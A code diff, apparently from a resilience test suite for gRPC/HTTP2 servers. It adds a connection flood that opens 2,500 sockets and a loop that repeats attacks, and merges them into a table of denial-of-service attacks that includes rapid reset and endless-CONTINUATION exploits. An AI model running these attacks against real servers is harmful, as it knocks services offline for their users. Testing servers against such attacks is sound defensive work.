@@ -7,10 +7,12 @@ That a server hangs up on it is no error.
 from __future__ import annotations
 
 import contextlib
+import socket
 import struct
 import threading
 from collections.abc import Callable, Iterator
 from contextlib import AbstractContextManager
+from functools import partial
 from typing import Final
 
 import grpc
@@ -154,6 +156,45 @@ def _unfinished() -> bytes:
     return _message(bytes(1 << 20))[:-1]
 
 
+@contextlib.contextmanager
+def _crowd(host: str, port: int) -> Iterator[list[Connection]]:
+    """Connects more often than a server allows, without waiting for any of them."""
+    with contextlib.ExitStack() as stack:
+        for _ in range(2500):
+            connection = stack.enter_context(socket.socket())
+            connection.setblocking(False)
+            connection.connect_ex((host, port))
+        yield []
+
+
+@contextlib.contextmanager
+def _again(attack: Attack, host: str, port: int) -> Iterator[list[Connection]]:
+    """Makes an attack again and again, from a thread of its own, until its context ends."""
+    stop = threading.Event()
+
+    def make() -> None:
+        while not stop.is_set():
+            with contextlib.suppress(OSError), attack(host, port):
+                stop.wait(0.2)
+
+    thread = threading.Thread(target=make)
+    thread.start()
+    try:
+        yield []
+    finally:
+        stop.set()
+        thread.join()
+
+
+NEWCOMERS: Final[dict[str, Attack]] = {
+    # Connections without a stream, more than a server takes, and hellos that cannot be read.
+    "crowds": partial(_again, _crowd),
+    "unreadable_hellos": partial(
+        _again, open_streams(METHOD, connections=1, streams=100, body=lambda: _message(b"GET / HTTP/1.1"))
+    ),
+}
+"""Attacks that keep newcomers of the same host out where a server has no share for each."""
+
 ATTACKS: Final[dict[str, Attack]] = {
     # Messages that the server would have to decompress: a thousandth of what it would hold is sent.
     "compressed_watches": _compressed(WATCH, _long_question),
@@ -179,4 +220,5 @@ ATTACKS: Final[dict[str, Attack]] = {
     "settings": _flood(frame(http2.SETTINGS, 0, 0)),
     "resets": held(_reset_streams),  # "rapid reset", CVE-2023-44487
     "continuations": held(_endless_headers),  # header fields that do not end, CVE-2024-27316
+    **NEWCOMERS,
 }
